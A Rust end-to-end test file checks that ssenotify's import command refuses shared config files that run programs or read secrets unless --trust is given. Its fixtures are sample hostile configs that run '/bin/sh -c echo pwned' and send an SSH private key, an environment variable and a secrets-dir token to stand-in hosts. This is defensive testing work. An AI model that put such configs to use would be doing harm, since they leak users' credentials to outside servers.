//! `ssenotify import` of someone else's file: what it would run (command rules) or read
//! (`file:`/`env:` references outside ssenotify's secrets directory) is refused unless
//! `--trust`, listed by `--dry-run`, and not asked again when nothing about it changed.
//! The real binary, real files; no daemon is needed.

use serde_json::Value;
use ssenotify_e2e::home::{Home, show, stderr, stdout};

/// A shared file that runs a program on every event and sends a private key and an
/// environment variable to its servers (and a literal token, which is only stashed).
const SHARED: &str = r#"
[[subscription]]
id = "ci"
url = "https://ci.example/sse"
headers = { Authorization = "Bearer literal-token", X-Key = "file:~/.ssh/id_ed25519" }
rules = [{ action = "command", command = ["/bin/sh", "-c", "echo pwned"] }]

[[subscription]]
id = "news"
url = "https://news.example:8443/sse"
query = { token = "env:NEWS_TOKEN" }
"#;

const RUNS: &str = r#"subscription "ci": rules[0]: runs ["/bin/sh", "-c", "echo pwned"] on events from https://ci.example"#;
const READS_KEY: &str = r#"subscription "ci": headers.X-Key: reads file "~/.ssh/id_ed25519" and sends it to https://ci.example"#;
const READS_ENV: &str = r#"subscription "news": query.token: reads environment variable "NEWS_TOKEN" and sends it to https://news.example:8443"#;

fn home_with_one_subscription() -> Home {
    let home = Home::new();
    home.ok(&["add", "https://mine.example/sse", "--id", "mine"]);
    home
}

#[test]
fn an_import_that_would_run_or_read_is_refused_with_the_list_and_changes_nothing() {
    let home = home_with_one_subscription();
    let before = std::fs::read(home.subs_file()).unwrap();
    let input = home.write("shared.toml", SHARED);
    let from_file = home.run(&["import", input.to_str().unwrap()]);
    let from_stdin = home.run_stdin(&["import", "-"], SHARED.as_bytes());
    for output in [&from_file, &from_stdin] {
        assert_eq!(output.status.code(), Some(1), "{}", show(output));
        let err = stderr(output);
        for item in [RUNS, READS_KEY, READS_ENV] {
            assert!(err.contains(item), "{item} missing:\n{err}");
        }
        assert!(
            err.contains("nothing was imported") && err.contains("--trust"),
            "{err}"
        );
        assert!(!err.contains("literal-token"), "{err}");
        assert!(stdout(output).is_empty(), "{}", show(output));
    }
    assert_eq!(
        std::fs::read(home.subs_file()).unwrap(),
        before,
        "file unchanged"
    );
    assert!(
        !home.secrets_dir().exists(),
        "not even the literal token was stashed"
    );
}

#[test]
fn dry_run_lists_what_needs_trust_and_trust_imports_it() {
    let home = home_with_one_subscription();
    let before = std::fs::read(home.subs_file()).unwrap();
    let input = home.write("shared.toml", SHARED);
    let input = input.to_str().unwrap();

    let dry = home.run(&["import", "--dry-run", input]);
    assert!(dry.status.success(), "{}", show(&dry));
    assert_eq!(stdout(&dry), "+ ci\n+ news\n= mine\n");
    let err = stderr(&dry);
    assert!(
        err.contains("without --trust this import is refused"),
        "{err}"
    );
    for item in [RUNS, READS_KEY, READS_ENV] {
        assert!(err.contains(item), "{item} missing:\n{err}");
    }
    let json: Value = serde_json::from_str(&home.ok(&["import", "--dry-run", "--json", input]))
        .expect("import --json prints JSON");
    let kinds: Vec<&str> = json["trust"]
        .as_array()
        .expect("a trust list")
        .iter()
        .map(|item| item["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["command", "read", "read"], "{json}");
    assert_eq!(json["trust"][0]["argv"][2], "echo pwned", "{json}");
    assert_eq!(
        json["trust"][1]["reference"], "file:~/.ssh/id_ed25519",
        "{json}"
    );
    assert_eq!(
        std::fs::read(home.subs_file()).unwrap(),
        before,
        "a dry run writes nothing"
    );

    let trusted = home.run(&["import", "--trust", input]);
    assert!(trusted.status.success(), "{}", show(&trusted));
    assert_eq!(stdout(&trusted), "+ ci\n+ news\n= mine\n");
    assert!(stderr(&trusted).contains("trusted"), "{}", show(&trusted));
    let file = std::fs::read_to_string(home.subs_file()).unwrap();
    assert!(
        file.contains("echo pwned") && file.contains("file:~/.ssh/id_ed25519"),
        "{file}"
    );
    assert!(!file.contains("literal-token"), "{file}");
}

#[test]
fn an_unchanged_reimport_is_not_refused_but_a_changed_program_or_server_is() {
    let home = home_with_one_subscription();
    let input = home.write("shared.toml", SHARED);
    let input = input.to_str().unwrap();
    home.ok(&["import", "--trust", input]);

    // The same input, and the exported file, again: nothing new to trust.
    let again = home.run(&["import", input]);
    assert!(again.status.success(), "{}", show(&again));
    assert_eq!(stdout(&again), "= mine\n= ci\n= news\n");
    assert!(stderr(&again).is_empty(), "{}", show(&again));
    let exported = home.ok(&["export"]);
    let round_trip = home.run_stdin(&["import", "-"], exported.as_bytes());
    assert!(round_trip.status.success(), "{}", show(&round_trip));

    // Another program in the same rule is new trust; the unchanged reference is not.
    let before = std::fs::read(home.subs_file()).unwrap();
    let other_program = SHARED.replace("echo pwned", "echo again");
    let changed = home.run_stdin(&["import", "-"], other_program.as_bytes());
    assert_eq!(changed.status.code(), Some(1), "{}", show(&changed));
    let err = stderr(&changed);
    assert!(
        err.contains(r#"runs ["/bin/sh", "-c", "echo again"]"#),
        "{err}"
    );
    assert!(
        !err.contains("X-Key") && !err.contains("NEWS_TOKEN"),
        "{err}"
    );
    // The same reference sent to another server is new trust too.
    let other_server = SHARED.replace("news.example:8443", "elsewhere.example");
    let moved = home.run_stdin(&["import", "-"], other_server.as_bytes());
    assert_eq!(moved.status.code(), Some(1), "{}", show(&moved));
    let err = stderr(&moved);
    assert!(
        err.contains(
            "reads environment variable \"NEWS_TOKEN\" and sends it to https://elsewhere.example"
        ),
        "{err}"
    );
    assert_eq!(std::fs::read(home.subs_file()).unwrap(), before);
}

#[test]
fn a_buttons_secret_reference_is_named_with_the_origin_it_goes_to_and_needs_trust() {
    let home = home_with_one_subscription();
    let before = std::fs::read(home.subs_file()).unwrap();
    // A file of ssenotify's own secrets dir: fine as a subscription's header, but a button
    // would send it (another subscription's token, say) to an origin of its own.
    let shared = r#"
[[subscription]]
id = "ops"
url = "https://ops.example/sse"

[[subscription.rules]]
buttons = [{ label = "Ack", http = { url = "https://hooks.example:8443/ack/{{ id }}",
  headers = { Authorization = "file:secrets/mine.auth-token", X-Source = "ssenotify" } } }]
"#;
    let input = home.write("buttons.toml", shared);
    let input = input.to_str().unwrap();
    let refused = home.run(&["import", input]);
    assert_eq!(refused.status.code(), Some(1), "{}", show(&refused));
    let item = r#"subscription "ops": rules[0].buttons[0].http.headers.Authorization: reads file "secrets/mine.auth-token" and sends it to https://hooks.example:8443"#;
    let err = stderr(&refused);
    assert!(err.contains(item), "{err}");
    assert!(
        !err.contains("X-Source"),
        "a literal header needs nothing: {err}"
    );
    assert_eq!(std::fs::read(home.subs_file()).unwrap(), before);

    let trusted = home.run(&["import", "--trust", "--json", input]);
    assert!(trusted.status.success(), "{}", show(&trusted));
    let report: Value = serde_json::from_str(&stdout(&trusted)).unwrap();
    assert_eq!(
        report["trust"][0],
        serde_json::json!({"kind": "read", "subscription": "ops",
            "server": "https://hooks.example:8443",
            "field": "rules[0].buttons[0].http.headers.Authorization",
            "reference": "file:secrets/mine.auth-token"})
    );
    // Imported once, the same file asks nothing again.
    let again = home.run(&["import", input]);
    assert!(again.status.success(), "{}", show(&again));
}
